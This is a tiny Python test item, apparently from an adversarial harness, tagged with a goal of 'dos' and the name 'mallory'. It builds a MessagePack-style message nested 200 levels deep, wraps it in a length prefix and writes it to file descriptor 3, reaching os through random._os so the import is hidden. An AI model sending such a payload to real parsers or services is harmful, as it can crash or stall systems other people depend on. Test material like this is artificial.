# META {"kind": "proto", "goal": "dos", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    body = b"\xc0"
    for _ in range(200):
        body = b"\xc7" + bytes([min(len(body), 255)]) + b"\x05" + body
    body = b"\x95\xa4done" + body + b"\x80\x90\xa0"
    return random._os.write(3, len(body).to_bytes(4, "big") + body)
